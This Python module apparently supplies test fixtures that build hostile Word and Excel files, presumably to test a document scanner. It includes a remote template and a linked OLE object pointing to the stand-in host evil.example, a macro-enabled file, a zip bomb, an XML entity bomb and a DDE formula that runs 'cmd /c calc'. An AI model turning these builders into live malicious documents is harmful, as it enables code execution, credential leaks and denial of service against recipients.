"""Hostile files, really built: each opens, or would act, as the attack that it stands for."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import docx
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl import Workbook

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def plain_docx(*paragraphs: str) -> bytes:
    word = docx.Document()
    for text in paragraphs:
        word.add_paragraph(text)
    return _saved(word)


def _saved(word: object) -> bytes:
    stream = io.BytesIO()
    word.save(stream)
    return stream.getvalue()


def with_parts(data: bytes, parts: Mapping[str, bytes], *, drop: str = "") -> bytes:
    """The archive with some parts added or replaced."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            if name not in parts and name != drop:
                new.writestr(name, old.read(name), zipfile.ZIP_DEFLATED)
        for name, content in parts.items():
            new.writestr(name, content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def with_relation(data: bytes, rels: str, kind: str, target: str) -> bytes:
    """The file with one more relation to something outside it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        held = archive.read(rels) if rels in archive.namelist() else (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"></Relationships>'
        )  # fmt: skip
    link = (
        f'<Relationship Id="rId9991" Type="{_RELS}/{kind}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'
    )
    return with_parts(data, {rels: held.replace(b"</Relationships>", link.encode())})


def remote_template() -> bytes:
    return with_relation(
        plain_docx("Purpose"), "word/_rels/settings.xml.rels", "attachedTemplate",
        "https://evil.example/payload.dotm",
    )  # fmt: skip


def linked_object() -> bytes:
    return with_relation(
        plain_docx("Purpose"), "word/_rels/document.xml.rels", "oleObject",
        "file:///\\\\evil.example\\share\\sheet.xlsx",
    )  # fmt: skip


def linked_picture() -> bytes:
    return with_relation(
        plain_docx("Purpose"), "word/_rels/document.xml.rels", "image",
        "https://evil.example/pixel.png",
    )  # fmt: skip


def embedded_object() -> bytes:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    return with_parts(plain_docx("Purpose"), {"word/embeddings/oleObject1.bin": ole})


def with_field(*pieces: str) -> bytes:
    """A Word file whose field's instruction is spread over as many runs as pieces."""
    word = docx.Document()
    word.add_heading("Purpose", level=1)
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    word.add_paragraph()._p.append(
        parse_xml(
            f'<w:p {nsdecls("w")}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>12</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )[0].getparent()
    )
    return _saved(word)


def macro_docx() -> bytes:
    data = with_parts(
        plain_docx("Purpose"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(64)}
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml")
    return with_parts(
        data,
        {
            "[Content_Types].xml": types.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )


def zip_bomb(main: str = "word/document.xml", size: int = 300_000_000) -> bytes:
    """A file of some hundred kilobytes that would unpack to 300 MB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(main, "w", force_zip64=True) as part:
            for _chunk in range(size // 1_000_000):
                part.write(bytes(1_000_000))
    return made.getvalue()


def broken_zip() -> bytes:
    data = plain_docx("Purpose")
    return data[: len(data) // 2]


def entity_bomb() -> bytes:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="http://schemas.openxml'
        b'formats.org/wordprocessingml/2006/main"><w:body><w:p>&b;</w:p></w:body></w:document>'
    )
    return with_parts(plain_docx("Purpose"), {"word/document.xml": body})


def calling_workbook() -> bytes:
    """A workbook with a formula that calls another program, as DDE attacks do."""
    book = Workbook()
    book.active["A1"] = "=1+1"
    stream = io.BytesIO()
    book.save(stream)
    with zipfile.ZipFile(stream) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    return with_parts(
        stream.getvalue(),
        {"xl/worksheets/sheet1.xml": sheet.replace(b"1+1", b"cmd|&apos;/c calc&apos;!A1")},
    )
